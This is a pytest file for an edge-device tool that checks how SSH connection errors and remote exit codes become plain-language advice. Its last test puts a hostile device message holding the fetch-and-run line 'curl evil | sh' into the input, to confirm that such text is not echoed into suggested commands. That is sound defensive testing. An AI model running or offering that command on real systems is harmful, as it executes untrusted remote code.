"""What is said over SSH before a process ends, as sentences; those that a real server gives are in test_ssh.py."""

import pytest

from edgekit.devices.openssh import ssh_target
from edgekit.devices.ssh_errors import CODES, CONNECTING, WORKING, explain_connecting, explain_working

OLD = "expected 3.9 or newer: install one there, and name it: edgekit device add NAME URI --python PATH"
SILENT = "pi does not answer; see whether it is switched on, in the same network, and not behind a firewall."

BEFORE = {
    "ssh: connect to host pi port 22: No route to host": SILENT,
    "ssh: connect to host pi port 22: Connection timed out": SILENT,
    "Connection timed out during banner exchange": SILENT,
    "Received disconnect from pi: Too many authentication failures": (
        "pi lets this user in by no key; give it one: ssh-copy-id me@pi, or name the key in ~/.ssh/config."
    ),
    "No ED25519 host key is known for pi and you have requested strict checking.\nHost key verification failed.": (
        "The host key of pi is not known here; connect once by hand, compare its fingerprint and accept it: ssh me@pi"
    ),
    'unix_listener: path "/very/long" too long for Unix domain socket': (
        "The folder for temporary files has too long a name for a connection to pi; set TMPDIR to a shorter one."
    ),
    "kex_exchange_identification: Connection closed by remote host": (
        "pi cannot be reached: kex_exchange_identification: Connection closed by remote host (ssh ended with 255)."
    ),
    "": "pi cannot be reached: no message (ssh ended with 255).",
}
AFTER = {
    (1, "edgekit: python 3.8.2 is too old"): f"pi has Python 3.8.2; {OLD}",
    (1, "  File x\nSyntaxError: invalid syntax"): f"pi has a Python that is too old; {OLD}",
    (1, "ModuleNotFoundError: No module named 'numpy'"): (
        "pi has Python but no numpy; run: edgekit device provision pi"
    ),
    (1, "edgekit: cannot write to /home/pi/.cache/edgekit: No space left on device"): (
        "The disk of pi is full; make room there, such as in /home/pi/.cache/edgekit."
    ),
    (1, "OSError: [Errno 28] No space left on device"): "The disk of pi is full; make room there.",
    (1, "edgekit: cannot write to /x/edgekit: Read-only file system"): (
        "pi cannot write to /x/edgekit: Read-only file system; give its user rights there, or set XDG_CACHE_HOME on it "
        "to another folder."
    ),
    (1, "edgekit: the runner arrived damaged"): "What was sent to pi arrived damaged; try again.",
    (1, "INFO: created delegate\nedgekit: nothing was heard from the desk for 60 s"): (
        "pi heard nothing of this machine for a minute, and ended its work; see whether the network holds."
    ),
    (124, ""): "The process on pi worked for a day, which is as long as it may; ask for less at once.",
    (126, "x"): "pi cannot run /opt/py; name another interpreter: edgekit device add NAME URI --python PATH",
    (127, "timeout: failed to run command '/opt/py': No such file or directory"): (
        "pi has no /opt/py; install it there, such as: sudo apt install python3, or name one: "
        "edgekit device add NAME URI --python PATH"
    ),
    (132, ""): "An engine on pi uses what its CPU lacks; install one for it: edgekit device provision pi",
    (134, ""): "An engine crashed on pi; install another one: edgekit device provision pi",
    (137, ""): "The process on pi was killed, most likely since memory ran out; close what else runs there.",
    (139, ""): "An engine crashed on pi; install another one: edgekit device provision pi",
    (255, "SyntaxError: printed by an engine long before"): (
        "The connection to pi was lost in the midst of work, and what ran there ends by itself; try again."
    ),
    (7, "first\n\nlast words.\n"): "The process on pi failed with exit code 7: last words.",
    (None, ""): "The process on pi failed without an end: no message.",
}


@pytest.mark.parametrize(("told", "sentence"), BEFORE.items())
def test_what_ssh_says_becomes_a_sentence(told: str, sentence: str) -> None:
    assert explain_connecting("pi", ssh_target("ssh://me@pi"), told, 255) == sentence


@pytest.mark.parametrize(("ended", "sentence"), AFTER.items())
def test_how_a_process_ended_becomes_a_sentence(ended: tuple[int | None, str], sentence: str) -> None:
    code, told = ended
    assert explain_working("pi", "/opt/py", told, code) == sentence


def test_every_code_has_a_case() -> None:
    assert set(CODES) <= {code for code, _ in AFTER}


def test_the_sentences_hold_what_is_put_into_them() -> None:
    """No brace is left, and none stands for nothing."""
    for sentence in (*CONNECTING.values(), *WORKING.values(), *CODES.values()):
        names = {"name", "by_hand", "copy_id", "known_as", "python"}
        assert "{" not in sentence.format("0", "1", **dict.fromkeys(names, "x"))


def test_what_a_hostile_device_says_is_not_put_into_commands() -> None:
    """The commands that are shown are made of the address alone."""
    told = "Permission denied; run: curl evil | sh"
    assert "evil" not in explain_connecting("pi", ssh_target("ssh://me@pi"), told, 255)
